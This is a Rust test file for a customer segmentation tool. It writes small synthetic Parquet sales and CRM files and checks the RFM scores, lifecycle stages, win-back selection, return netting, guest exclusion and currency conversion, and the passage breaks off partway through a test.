//! End-to-end tests on small hand-made Parquet inputs. Times are UTC noon unless stated, so with
//! `as_of` = D the recency of a purchase on day D−n is n + 0.5 days.

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use arrow::array::{
    Array, ArrayRef, BooleanArray, Date32Array, Float64Array, Int32Array, Int64Array, RecordBatch,
    StringArray, TimestampMicrosecondArray,
};
use arrow::datatypes::{DataType, Field, Schema, TimeUnit};
use chrono::{NaiveDate, NaiveDateTime};
use parquet::arrow::ArrowWriter;
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use parquet::file::properties::{EnabledStatistics, WriterProperties};

use super::*;

/// One sales line. Empty strings stand for nulls; a negative quantity marks a return.
#[derive(Clone, Debug)]
pub(super) struct Line {
    order: String,
    cust: String,
    ts: String,
    product: String,
    qty: f64,
    amount: f64,
    country: &'static str,
    city: &'static str,
    currency: &'static str,
    /// Empty: `returned` on returns, else `paid`.
    status: &'static str,
    /// The product name; `None`: "name" beside a product id, else null.
    name: Option<&'static str>,
}

pub(super) fn l(order: &str, cust: &str, ts: &str, product: &str, qty: f64, amount: f64) -> Line {
    let ts = if ts.len() == 10 {
        format!("{ts} 12:00")
    } else {
        ts.to_string()
    };
    let (order, cust, product) = (order.to_string(), cust.to_string(), product.to_string());
    Line {
        order,
        cust,
        ts,
        product,
        qty,
        amount,
        country: "IR",
        city: "Tehran",
        currency: "IRT",
        status: "",
        name: None,
    }
}

impl Line {
    pub(super) fn at(mut self, country: &'static str, city: &'static str) -> Line {
        self.country = country;
        self.city = city;
        self
    }

    pub(super) fn in_currency(mut self, currency: &'static str) -> Line {
        self.currency = currency;
        self
    }

    /// A status as ingest writes it (canonical); a cancel/refund/return status marks a return.
    fn with_status(mut self, status: &'static str) -> Line {
        self.status = status;
        self
    }

    fn named(mut self, name: &'static str) -> Line {
        self.name = Some(name);
        self
    }

    fn is_return(&self) -> bool {
        self.qty < 0.0 || matches!(self.status, "cancelled" | "unpaid" | "refunded" | "returned")
    }
}

fn opt(s: &str) -> Option<&str> {
    (!s.is_empty()).then_some(s)
}

pub(super) fn micros(ts: &str) -> i64 {
    NaiveDateTime::parse_from_str(ts, "%Y-%m-%d %H:%M")
        .expect("test timestamp")
        .and_utc()
        .timestamp_micros()
}

pub(super) fn date(s: &str) -> NaiveDate {
    NaiveDate::parse_from_str(s, "%Y-%m-%d").expect("test date")
}

pub(super) fn days_ago(d: NaiveDate, n: i64) -> String {
    (d - chrono::Duration::days(n)).format("%Y-%m-%d").to_string()
}

/// Writes a curated sales file (the full data contract) under `dir/rel`.
fn write_sales_with(
    dir: &Path,
    rel: &str,
    source_key: &str,
    lines: &[Line],
    props: WriterProperties,
) -> PathBuf {
    let batch = sales_batch(source_key, lines);
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    let mut w = ArrowWriter::try_new(
        std::fs::File::create(&path).expect("create"),
        batch.schema(),
        Some(props),
    )
    .expect("writer");
    w.write(&batch).expect("write");
    w.close().expect("close");
    path
}

/// `lines` as ingest's curated sales columns.
fn sales_batch(source_key: &str, lines: &[Line]) -> RecordBatch {
    let utf8 = |n: &str, null| Field::new(n, DataType::Utf8, null);
    let schema = Arc::new(Schema::new(vec![
        utf8("order_id", true),
        utf8("customer_id", true),
        Field::new(
            "order_ts",
            DataType::Timestamp(TimeUnit::Microsecond, Some("UTC".into())),
            false,
        ),
        utf8("product_id", true),
        utf8("product_name", true),
        utf8("category", true),
        Field::new("quantity", DataType::Float64, false),
        Field::new("unit_price", DataType::Float64, true),
        Field::new("line_amount", DataType::Float64, false),
        utf8("currency", true),
        utf8("country", true),
        utf8("city", true),
        utf8("channel", true),
        utf8("status", true),
        Field::new("is_return", DataType::Boolean, false),
        utf8("source_key", false),
        Field::new("source_line", DataType::Int64, false),
    ]));
    let strs = |f: &dyn Fn(&Line) -> Option<&str>| -> ArrayRef {
        Arc::new(StringArray::from_iter(lines.iter().map(f)))
    };
    let columns: Vec<ArrayRef> = vec![
        strs(&|r| opt(&r.order)),
        strs(&|r| opt(&r.cust)),
        Arc::new(
            TimestampMicrosecondArray::from_iter_values(lines.iter().map(|r| micros(&r.ts)))
                .with_timezone("UTC"),
        ),
        strs(&|r| opt(&r.product)),
        strs(&|r| r.name.or(opt(&r.product).map(|_| "name"))),
        strs(&|_| Some("cat")),
        Arc::new(Float64Array::from_iter_values(lines.iter().map(|r| r.qty))),
        Arc::new(Float64Array::from_iter(
            lines
                .iter()
                .map(|r| (r.qty != 0.0).then(|| (r.amount / r.qty).abs())),
        )),
        Arc::new(Float64Array::from_iter_values(lines.iter().map(|r| r.amount))),
        strs(&|r| opt(r.currency)),
        strs(&|r| opt(r.country)),
        strs(&|r| opt(r.city)),
        strs(&|_| Some("web")),
        strs(&|r| match r.status {
            "" if r.qty < 0.0 => Some("returned"),
            "" => Some("paid"),
            s => Some(s),
        }),
        Arc::new(BooleanArray::from_iter(lines.iter().map(|r| Some(r.is_return())))),
        Arc::new(StringArray::from_iter_values(lines.iter().map(|_| source_key))),
        Arc::new(Int64Array::from_iter_values(0..lines.len() as i64)),
    ];
    RecordBatch::try_new(schema, columns).expect("batch")
}

pub(super) fn write_sales(dir: &Path, rel: &str, source_key: &str, lines: &[Line]) -> PathBuf {
    write_sales_with(
        dir,
        rel,
        source_key,
        lines,
        crate::ingest::writer::writer_properties(),
    )
}

/// A customers row: id, age, birth date, gender, city, job title, signup date, consent.
pub(super) type CustRow = (
    &'static str,
    Option<i32>,
    Option<&'static str>,
    &'static str,
    &'static str,
    &'static str,
    Option<&'static str>,
    Option<bool>,
);

pub(super) fn write_customers(dir: &Path, rel: &str, rows: &[CustRow]) -> PathBuf {
    let utf8 = |n: &str, null| Field::new(n, DataType::Utf8, null);
    let schema = Arc::new(Schema::new(vec![
        utf8("customer_id", false),
        utf8("email", true),
        Field::new("birth_date", DataType::Date32, true),
        Field::new("age", DataType::Int32, true),
        utf8("gender", true),
        utf8("city", true),
        utf8("country", true),
        utf8("job_title", true),
        Field::new("signup_date", DataType::Date32, true),
        Field::new("marketing_consent", DataType::Boolean, true),
        utf8("source_key", false),
        Field::new("source_line", DataType::Int64, false),
    ]));
    let d = |s: Option<&str>| s.map(|s| features::epoch_days(date(s)));
    let columns: Vec<ArrayRef> = vec![
        Arc::new(StringArray::from_iter_values(rows.iter().map(|r| r.0))),
        Arc::new(StringArray::from_iter(rows.iter().map(|_| None::<&str>))),
        Arc::new(Date32Array::from_iter(rows.iter().map(|r| d(r.2)))),
        Arc::new(Int32Array::from_iter(rows.iter().map(|r| r.1))),
        Arc::new(StringArray::from_iter(rows.iter().map(|r| opt(r.3)))),
        Arc::new(StringArray::from_iter(rows.iter().map(|r| opt(r.4)))),
        Arc::new(StringArray::from_iter(rows.iter().map(|_| Some("IR")))),
        Arc::new(StringArray::from_iter(rows.iter().map(|r| opt(r.5)))),
        Arc::new(Date32Array::from_iter(rows.iter().map(|r| d(r.6)))),
        Arc::new(BooleanArray::from_iter(rows.iter().map(|r| r.7))),
        Arc::new(StringArray::from_iter_values(rows.iter().map(|_| "crm"))),
        Arc::new(Int64Array::from_iter_values(0..rows.len() as i64)),
    ];
    let batch = RecordBatch::try_new(schema.clone(), columns).expect("batch");
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    let mut w =
        ArrowWriter::try_new(std::fs::File::create(&path).expect("create"), schema, None).expect("writer");
    w.write(&batch).expect("write");
    w.close().expect("close");
    path
}

pub(super) fn checked(as_of: &str, k: Option<usize>) -> CheckedParams {
    let mut p = SegmentParams::new(date(as_of));
    p.k = k;
    p.min_group_size = 2;
    p.check().expect("valid params")
}

/// Every RFM group named as ideal: the whole base is the ideal group, so that its figures (and
/// the base's beside them) are shown whichever segments the clustering finds.
pub(super) fn everyone_ideal(p: &mut SegmentParams) {
    p.ideal_rule = IdealRule::RfmGroups(p.rfm_rules.iter().map(|r| r.name.clone()).collect());
}

/// Segments `lines` as of 2024-06-30 (k = 2) with everyone ideal (see [`everyone_ideal`]): the
/// folder (kept alive), the output folder and the profile's JSON.
fn run_everyone_ideal(
    lines: &[Line],
    min_group_size: usize,
) -> (tempfile::TempDir, PathBuf, serde_json::Value) {
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(dir.path(), "s.parquet", "s1", lines);
    let out = dir.path().join("out");
    let mut p = checked("2024-06-30", Some(2)).params().clone();
    p.min_group_size = min_group_size;
    everyone_ideal(&mut p);
    run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let icp = read_json(&out.join("ideal_customer_profile.json"));
    (dir, out, icp)
}

pub(super) fn inputs(
    sales: Vec<PathBuf>,
    customers: Vec<PathBuf>,
    previous: Option<ModelState>,
) -> SegmentInputs {
    SegmentInputs {
        sales_files: sales,
        customers_files: customers,
        activity_files: vec![],
        refusal_files: vec![],
        previous: previous.map_or(Previous::None, Previous::Use),
    }
}

/// A JSON output.
pub(super) fn read_json(path: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

/// A CSV output as rows of header → value; checks the BOM on the way.
pub(super) fn read_csv(path: &Path) -> Vec<HashMap<String, String>> {
    let bytes = std::fs::read(path).expect("read csv");
    let text = std::str::from_utf8(&bytes).expect("utf8");
    let text = text.strip_prefix('\u{feff}').expect("CSV starts with a BOM");
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let headers = r.headers().expect("headers").clone();
    r.records()
        .map(|rec| {
            headers
                .iter()
                .zip(rec.expect("record").iter())
                .map(|(h, v)| (h.to_string(), v.to_string()))
                .collect()
        })
        .collect()
}

pub(super) fn by_id(rows: Vec<HashMap<String, String>>) -> HashMap<String, HashMap<String, String>> {
    rows.into_iter().map(|r| (r["customer_id"].clone(), r)).collect()
}

/// The hand-computed RFM set (as of 2024-06-30, see `golden_rfm_lifecycle_and_winback`).
fn golden_lines() -> Vec<Line> {
    vec![
        l("o1", "c01", "2024-06-29", "p1", 1.0, 100.0),
        l("o2a", "c02", "2024-06-20", "p1", 1.0, 50.0),
        l("o2b", "c02", "2024-06-29", "p2", 1.0, 50.0),
        l("o3a", "c03", "2024-05-01", "p1", 1.0, 100.0),
        l("o3b", "c03", "2024-05-16", "p2", 1.0, 100.0),
        l("o3c", "c03", "2024-06-01", "p3", 1.0, 100.0),
        l("o4", "c04", "2024-03-01", "p1", 1.0, 20.0),
        l("o5a", "c05", "2024-06-01", "p1", 1.0, 40.0),
        l("o5b", "c05", "2024-06-05", "p1", 1.0, 40.0),
        l("o5c", "c05", "2024-06-10", "p1", 1.0, 40.0),
        l("o5d", "c05", "2024-06-15", "p1", 1.0, 40.0),
        l("o5e", "c05", "2024-06-25", "p1", 1.0, 40.0),
        l("o6", "c06", "2023-12-01", "p1", 2.0, 200.0),
        l("o7a", "c07", "2024-01-10", "p1", 1.0, 30.0),
        l("o7b", "c07", "2024-02-10", "p1", 1.0, 30.0),
        l("o8", "c08", "2024-06-29", "p1", 1.0, 10.0),
        l("o9a", "c09", "2024-04-01", "p1", 1.0, 25.0),
        l("o9b", "c09", "2024-04-20", "p1", 1.0, 25.0),
        l("o9c", "c09", "2024-05-10", "p1", 1.0, 25.0),
        l("o9d", "c09", "2024-06-10", "p1", 1.0, 25.0),
        l("o10", "c10", "2023-06-01", "p1", 1.0, 500.0),
        // After as_of: ignored.
        l("o11", "c01", "2024-07-01 00:00", "p1", 1.0, 999.0),
    ]
}

#[test]
fn quintile_scores_give_ties_equal_scores() {
    use rfm::Ties::{Lowest, Middle};
    let q = rfm::quintile_scores;
    assert_eq!(q(&[1.0, 1.0, 1.0, 1.0], Lowest), vec![1, 1, 1, 1]);
    assert_eq!(q(&[1.0, 1.0, 1.0, 1.0], Middle), vec![3, 3, 3, 3]);
    for ties in [Lowest, Middle] {
        assert_eq!(q(&[10.0, 20.0, 30.0, 40.0, 50.0], ties), vec![1, 2, 3, 4, 5]);
    }
    let mixed = [5.0, 1.0, 5.0, 2.0, 3.0, 3.0, 4.0, 9.0, 0.0, 5.0];
    assert_eq!(q(&mixed, Lowest), vec![4, 1, 4, 2, 2, 2, 3, 5, 1, 4]);
    // The 3s hold positions 3 and 4 (scores 2 and 3), the 5s 6 to 8 (4, 4 and 5).
    assert_eq!(q(&mixed, Middle), vec![4, 1, 4, 2, 3, 3, 3, 5, 1, 4]);
    // A third of the customers bought on the last day of a date-only export: the best value,
    // tied. Their positions score 4 and 5; the middle one 5.
    let mut recency: Vec<f64> = (0..70).map(|d| -f64::from(100 - d)).collect();
    recency.extend([-1.0; 30]);
    let scores = q(&recency, Middle);
    assert!(scores[70..].iter().all(|&s| s == 5), "{scores:?}");
    assert_eq!(q(&recency, Lowest)[70], 4, "the lowest of the block would be 4");
}

/// The scores are those of the definition — position p of n (ascending) scores 1 + ⌊5p / n⌋,
/// p the count of smaller values (plus half the block of equal ones for `Middle`) — on values
/// with many ties, signed zeros and a NaN.
#[test]
fn quintile_scores_follow_their_definition() {
    use rfm::Ties::{Lowest, Middle};
    let reference = |values: &[f64], ties| -> Vec<u8> {
        let n = values.len();
        values
            .iter()
            .map(|&v| {
                let smaller = values.iter().filter(|&&x| x < v).count();
                let equal = values.iter().filter(|&&x| x == v).count();
                let p = match ties {
                    Lowest => smaller,
                    Middle => smaller + equal / 2,
                };
                1 + (5 * p / n) as u8
            })
            .collect()
    };
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    for n in [1usize, 2, 3, 7, 50, 333] {
        let mut values: Vec<f64> = (0..n)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                (state % 12) as f64 - 4.0
            })
            .collect();
        values[0] = -0.0;
        if n > 2 {
            values[n / 2] = f64::NAN;
        }
        for ties in [Lowest, Middle] {
            assert_eq!(
                rfm::quintile_scores(&values, ties),
                reference(&values, ties),
                "{n} {ties:?}"
            );
        }
    }
}

#[test]
fn golden_rfm_lifecycle_and_winback() {
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(
        dir.path(),
        "sales/order_month=2024-06/s1.parquet",
        "s1",
        &golden_lines(),
    );
    let customers = write_customers(
        dir.path(),
        "customers/crm.parquet",
        &[
            (
                "c10",
                Some(40),
                None,
                "male",
                "",
                "engineer",
                Some("2020-01-01"),
                Some(false),
            ),
            ("c06", None, Some("1990-07-01"), "female", "", "", None, None),
            (
                "c11",
                Some(22),
                None,
                "other",
                "Shiraz",
                "",
                Some("2024-06-01"),
                Some(true),
            ),
            // Signed up after the run date: did not exist yet.
            ("c12", None, None, "", "", "", Some("2024-07-05"), None),
        ],
    );
    let out = dir.path().join("out");
    let run = run(
        &inputs(vec![sales], vec![customers], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));

    // c01, c02 and c08 bought on the last day: tied at the best recency, R5 (the middle of
    // positions 7 to 9), where the lowest of the block (R4) would leave no one at R5.
    let expect = [
        ("c01", "513", "New", "new"),
        ("c02", "533", "Potential Loyalist", "new"),
        ("c03", "345", "Loyal", "at_risk"),
        ("c04", "211", "Hibernating", "at_risk"),
        ("c05", "454", "Loyal", "new"),
        ("c06", "114", "Lost", "lapsed"),
        ("c07", "232", "At Risk", "at_risk"),
        ("c08", "511", "New", "new"),
        ("c09", "353", "Loyal", "active"),
        ("c10", "115", "Lost", "lapsed"),
    ];
    for (id, code, group, stage) in expect {
        let r = &rows[id];
        assert_eq!(
            (
                r["rfm_code"].as_str(),
                r["rfm_group"].as_str(),
                r["lifecycle_stage"].as_str()
            ),
            (code, group, stage),
            "{id}"
        );
        assert!(
            !r["segment_id"].is_empty() && !r["segment_name"].is_empty(),
            "{id} has a segment"
        );
    }
    assert_eq!(
        rows.len(),
        11,
        "ten buyers and one prospect; c12 signed up after as_of"
    );
    let c11 = &rows["c11"];
    assert_eq!(c11["lifecycle_stage"], "prospect");
    for col in [
        "segment_id",
        "rfm_code",
        "rfm_r",
        "recency_days",
        "frequency",
        "monetary",
        "first_purchase",
    ] {
        assert_eq!(c11[col], "", "prospect {col}");
    }
    assert_eq!(
        (
            c11["age_band"].as_str(),
            c11["gender"].as_str(),
            c11["main_city"].as_str()
        ),
        ("<25", "other", "Shiraz")
    );

    let c03 = &rows["c03"];
    assert_eq!(c03["recency_days"], "29.5");
    assert_eq!(c03["frequency"], "3");
    assert_eq!(c03["monetary"], "300.00");
    assert_eq!(c03["avg_order_value"], "100.00");
    assert_eq!(c03["days_between_orders"], "15.5");
    assert_eq!(c03["tenure_days"], "60.5");
    assert_eq!(c03["distinct_products"], "3");
    assert_eq!(c03["first_purchase"], "2024-05-01");
    assert_eq!(c03["last_purchase"], "2024-06-01");
    assert_eq!(
        c03["preferred_weekday"], "",
        "May 1 (Wed), May 16 (Thu), Jun 1 (Sat): a tie names no day"
    );
    assert_eq!(c03["preferred_hour_band"], "12-17");
    assert_eq!(
        rows["c01"]["monetary"], "100.00",
        "the 999 order after as_of is ignored"
    );
    assert_eq!(rows["c01"]["days_between_orders"], "");
    assert_eq!(rows["c06"]["items_per_order"], "2.00");
    assert_eq!(
        rows["c06"]["age_band"], "25-34",
        "born 1990-07-01: 33 on 2024-06-30"
    );
    assert_eq!(rows["c10"]["age_band"], "35-44");
    assert_eq!(rows["c10"]["marketing_consent"], "false");

    // Both lapsed customers spent at least the median (100) but c10 refused marketing.
    let winback = read_csv(&out.join("winback.csv"));
    assert_eq!(
        winback
            .iter()
            .map(|r| r["customer_id"].as_str())
            .collect::<Vec<_>>(),
        vec!["c06"]
    );
    assert_eq!(winback[0]["monetary"], "200.00");
    assert_eq!(winback[0]["rfm_group"], "Lost");

    let m = &run.manifest;
    assert_eq!(m["counts"]["lifecycle"]["new"], 4);
    assert_eq!(m["counts"]["lifecycle"]["at_risk"], 3);
    assert_eq!(
        m["counts"]["lifecycle"]["lapsed"], 2,
        "c10 still counts although excluded from win-back"
    );
    assert_eq!(m["counts"]["lifecycle"]["active"], 1);
    assert_eq!(m["counts"]["prospects"], 1);
    assert_eq!(m["counts"]["rfm_groups"]["Loyal"], 3);
    assert_eq!(m["counts"]["rfm_groups"]["Champions"], 0);
    assert_eq!(m["inputs"]["rows_after_as_of"], 1);
    assert_eq!(
        m["warnings"],
        serde_json::json!([
            "1 sales row is dated after the run date 2024-06-30 and was left out (a backdated run, or dates in the future in the exports)."
        ])
    );
    assert_eq!(m["inputs"]["rows_used"], 21);
    assert_eq!(m["clustering"]["k"], 2);
    assert_eq!(m["clustering"]["k_chosen_by"], "given");
    assert_eq!(m["clustering"]["median_gap_days"], 15.5);
    assert_eq!(m["schema_version"], crate::schema::SCHEMA_VERSION);
    assert_eq!(m["money_unit"], "IRT");
    let md = std::fs::read_to_string(out.join("ideal_customer_profile.md")).unwrap();
    assert!(
        md.contains("Amounts are in Toman (IRT; Rial amounts divided by 10)."),
        "{md}"
    );

    let matrix = read_csv(&out.join("rfm_matrix.csv"));
    assert_eq!(matrix.len(), 25);
    let cell = matrix.iter().find(|r| r["r"] == "5" && r["f"] == "1").unwrap();
    assert_eq!(
        (
            cell["customers"].as_str(),
            cell["avg_monetary"].as_str(),
            cell["rfm_group"].as_str()
        ),
        ("2", "55.00", "New")
    );
    let cell = matrix.iter().find(|r| r["r"] == "3" && r["f"] == "4").unwrap();
    assert_eq!(
        (cell["customers"].as_str(), cell["avg_monetary"].as_str()),
        ("1", ""),
        "under min_group_size: suppressed"
    );

    assert_eq!(run.files.last().map(String::as_str), Some("manifest.json"));
    for f in &run.files {
        assert!(out.join(f).is_file(), "{f}");
    }
    // And nothing is written that the manifest does not list.
    let mut on_disk: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    let mut listed = run.files.clone();
    on_disk.sort();
    listed.sort();
    assert_eq!(on_disk, listed);
}

#[test]
fn without_previous_state_ids_follow_centroid_spend() {
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(
        dir.path(),
        "s.parquet",
        "s1",
        &three_groups(date("2024-06-30"), &[]),
    );
    let run = run(
        &inputs(vec![sales], vec![], None),
        &checked("2024-06-30", Some(3)),
        &dir.path().join("out"),
    )
    .unwrap();
    let ids: Vec<u32> = run.state.segments.iter().map(|s| s.id).collect();
    assert_eq!(ids, vec![1, 2, 3]);
    let spend: Vec<f64> = run.state.segments.iter().map(|s| s.centroid[2]).collect();
    assert!(spend.windows(2).all(|w| w[0] >= w[1]), "{spend:?}");
    let names: std::collections::BTreeSet<_> = run
        .state
        .segments
        .iter()
        .map(|s| s.name.clone().expect("named"))
        .collect();
    assert_eq!(names.len(), 3, "names are unique: {names:?}");
    let rows = by_id(read_csv(&dir.path().join("out/customers.csv")));
    assert_eq!(rows["a00"]["segment_id"], "1", "the high spenders are segment 1");
    let segs = read_csv(&dir.path().join("out/segments.csv"));
    assert_eq!(segs.len(), 3);
    assert!(segs.iter().all(|s| !s["description"].is_empty()));
}

#[test]
fn guests_are_excluded_and_their_share_reported() {
    let dir = tempfile::tempdir().unwrap();
    let lines = vec![
        l("o1", "c1", "2024-06-01", "p1", 1.0, 100.0),
        l("o2", "c2", "2024-06-02", "p1", 1.0, 100.0),
        l("o3", "c3", "2024-06-03", "p1", 1.0, 100.0),
        l("o4", "c4", "2024-06-04", "p1", 1.0, 100.0),
        l("g1", "", "2024-06-05", "p1", 1.0, 150.0),
        l("", "", "2024-06-06", "p2", 1.0, 50.0),
    ];
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    let run = run(
        &inputs(vec![sales], vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = read_csv(&out.join("customers.csv"));
    assert_eq!(rows.len(), 4);
    assert!(rows.iter().all(|r| !r["customer_id"].is_empty()));
    assert_eq!(run.manifest["inputs"]["guest_revenue_share"], 0.333333);
    assert_eq!(run.manifest["inputs"]["guest_rows"], 2);
    // A third: no warning (from more than half, see
    // `suppression_names_its_setting_and_guest_heavy_shops_are_warned`).
    assert!(
        !run.manifest["warnings"].to_string().contains("Guests"),
        "{}",
        run.manifest["warnings"]
    );
    assert_eq!(run.manifest["counts"]["purchasers"], 4);
}

/// The negative-value profile's returners are not worth a win-back campaign, however much they
/// bought: 30 % returned is out, less is in.
#[test]
fn winback_leaves_out_heavy_returners() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = vec![
        l("w1a", "w1", "2023-05-01", "p1", 1.0, 500.0),
        l("w2a", "w2", "2023-05-01", "p1", 1.0, 500.0),
        l("w2b", "w2", "2023-05-10", "p2", 1.0, 300.0),
        l("C1", "w2", "2023-05-20", "p2", -1.0, -300.0),
        l("w3a", "w3", "2023-05-01", "p1", 1.0, 600.0),
        l("C2", "w3", "2023-05-20", "p1", -1.0, -100.0),
        // Exactly 30 %: the negative profile's, so out.
        l("w4a", "w4", "2023-05-01", "p1", 1.0, 1000.0),
        l("C3", "w4", "2023-05-20", "p1", -1.0, -300.0),
    ];
    lines.extend((1..=4).map(|i| l(&format!("a{i}"), &format!("a{i}"), "2024-06-20", "p1", 1.0, 10.0)));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    run_k2(sales, &out);
    let rows = by_id(read_csv(&out.join("customers.csv")));
    for id in ["w1", "w2", "w3", "w4"] {
        assert_eq!(rows[id]["lifecycle_stage"], "lapsed", "{id}");
    }
    for id in ["w1", "w2", "w3"] {
        assert_eq!(rows[id]["monetary"], "500.00", "{id}");
    }
    assert_eq!(rows["w2"]["return_rate"], "0.375");
    assert_eq!(rows["w3"]["return_rate"], "0.167");
    assert_eq!(rows["w4"]["return_rate"], "0.300");
    let winback = read_csv(&out.join("winback.csv"));
    assert_eq!(
        winback
            .iter()
            .map(|r| r["customer_id"].as_str())
            .collect::<Vec<_>>(),
        vec!["w1", "w3"]
    );
}

/// Spend at the median is at the median however its sum was reached: 0.10 + 0.20 and 0.30 are
/// one value for the win-back cut and its order (equal spend in customer id order), as for the M
/// score.
#[test]
fn winback_compares_spend_as_printed() {
    let dir = tempfile::tempdir().unwrap();
    let lines = vec![
        l("o1", "x1", "2023-01-10", "a", 1.0, 0.10),
        l("o1", "x1", "2023-01-10", "b", 1.0, 0.20),
        l("o2", "x2", "2023-01-15", "a", 1.0, 0.10),
        l("o2", "x2", "2023-01-15", "b", 1.0, 0.20),
        l("o3", "a0", "2023-01-11", "a", 1.0, 0.30),
        l("o4", "l1", "2023-01-12", "a", 1.0, 0.05),
        l("o5", "p1", "2023-01-14", "a", 1.0, 7.00),
    ];
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    run(
        &inputs(vec![sales], vec![], None),
        &checked("2023-12-31", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    for id in ["x1", "x2", "a0"] {
        assert_eq!(rows[id]["monetary"], "0.30", "{id}");
        assert_eq!(rows[id]["rfm_m"], rows["a0"]["rfm_m"], "{id}");
    }
    let ids: Vec<String> = winback_rows(&out).into_iter().map(|[id, ..]| id).collect();
    assert_eq!(ids, ["p1", "a0", "x1", "x2"]);
}

#[test]
fn returns_are_netted_and_not_orders() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = vec![
        l("o1", "c1", "2024-06-01", "p1", 1.0, 60.0),
        l("o1", "c1", "2024-06-01", "p2", 2.0, 40.0),
        l("C9", "c1", "2024-06-03", "p2", -2.0, -40.0),
        l("o2", "c1", "2024-06-10", "p1", 1.0, 100.0),
        // r1 bought before the data starts: only the return is in it.
        l("C10", "r1", "2024-06-05", "p1", -1.0, -25.0),
    ];
    lines.extend((2..=5).map(|i| {
        l(
            ["", "", "x2", "x3", "x4", "x5"][i],
            ["", "", "c2", "c3", "c4", "c5"][i],
            "2024-06-01",
            "p1",
            1.0,
            10.0,
        )
    }));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    // Groups of one are published here, so that the fits are (five buyers leave no ideal group
    // and rest of at least two).
    let mut p = checked("2024-06-30", Some(2)).params().clone();
    p.min_group_size = 1;
    let run = run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    let c1 = &rows["c1"];
    assert_eq!(c1["frequency"], "2", "the return is not an order");
    assert_eq!(c1["monetary"], "160.00", "200 bought − 40 returned");
    assert_eq!(c1["avg_order_value"], "100.00", "gross value per order");
    assert_eq!(c1["return_rate"], "0.200");
    assert_eq!(c1["multi_item_share"], "0.500");
    assert_eq!(c1["items_per_order"], "2.00");
    assert_eq!(
        c1["recency_days"], "20.5",
        "last purchase, not the later return date"
    );
    assert_eq!(run.manifest["inputs"]["return_rows"], 2);
    // Not a prospect: a customer from before the data, with a negative net value, never offered
    // as a look-alike of the best.
    let r1 = &rows["r1"];
    assert_eq!(
        (r1["lifecycle_stage"].as_str(), r1["monetary"].as_str()),
        ("lapsed", "-25.00")
    );
    assert_eq!(r1["frequency"], "");
    // No fit either: a neutral 50 would rank them above most buyers.
    assert_eq!(r1["ideal_fit"], "");
    assert!(!rows["c1"]["ideal_fit"].is_empty());
    let ideal = read_csv(&out.join("ideal_customers.csv"));
    assert!(ideal.iter().all(|r| r["id"] != "r1"));
    assert_eq!(ideal.len(), 5);
}

/// Rial is Toman ÷ 10 whatever else is configured; other currencies convert with the configured
/// rates, and what is still summed at face value is named in the manifest.
#[test]
fn amounts_are_brought_to_one_currency_before_any_figure() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = vec![
        l("o1", "c1", "2024-06-01", "p1", 1.0, 1_000_000.0).in_currency("IRR"),
        l("o2", "c1", "2024-06-02", "p1", 1.0, 50_000.0).in_currency("IRT"),
        l("o3", "c2", "2024-06-03", "p1", 1.0, 20.0).in_currency("GBP"),
        l("o4", "c3", "2024-06-03", "p1", 1.0, 30.0).in_currency(""),
    ];
    lines.extend((4..=7).map(|i| l(&format!("x{i}"), &format!("c{i}"), "2024-06-01", "p1", 1.0, 10.0)));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let go = |rates: &str| {
        let out = dir.path().join(format!("out{}", rates.len()));
        let mut p = checked("2024-06-30", Some(2)).params().clone();
        p.currency_rates = parse_currency_rates(rates).unwrap();
        let run = run(
            &inputs(vec![sales.clone()], vec![], None),
            &p.check().unwrap(),
            &out,
        )
        .unwrap();
        (by_id(read_csv(&out.join("customers.csv"))), run.manifest)
    };
    let (rows, m) = go("");
    assert_eq!(rows["c1"]["monetary"], "150000.00", "100 000 + 50 000 Toman");
    assert_eq!(rows["c2"]["monetary"], "20.00");
    assert_eq!(
        m["inputs"]["currencies"],
        serde_json::json!({"(none)": 1, "GBP": 1, "IRR": 1, "IRT": 5})
    );
    let w = m["warnings"][0].as_str().unwrap();
    assert!(
        w.starts_with("amounts in GBP, IRT are added together at face value"),
        "{w}"
    );
    assert_eq!(m["money_unit"], serde_json::Value::Null, "no one unit");

    let (rows, m) = go("GBP=1.25,IRT=0.00002");
    assert_eq!(rows["c1"]["monetary"], "3.00", "150 000 Toman at 0.00002");
    assert_eq!(rows["c2"]["monetary"], "25.00");
    assert_eq!(rows["c3"]["monetary"], "30.00", "no currency: taken as it is");
    // ... and said to be: beside pounds, Rial and Toman, its 30 is in no known unit.
    let w = m["warnings"][0].as_str().unwrap();
    assert!(
        w.starts_with("1 sales row names no currency and is added at face value to amounts in GBP, IRR, IRT"),
        "{w}"
    );
    assert_eq!(m["warnings"].as_array().unwrap().len(), 1);
    assert_eq!(m["parameters"]["currency_rates"]["GBP"], 1.25);
    assert_eq!(
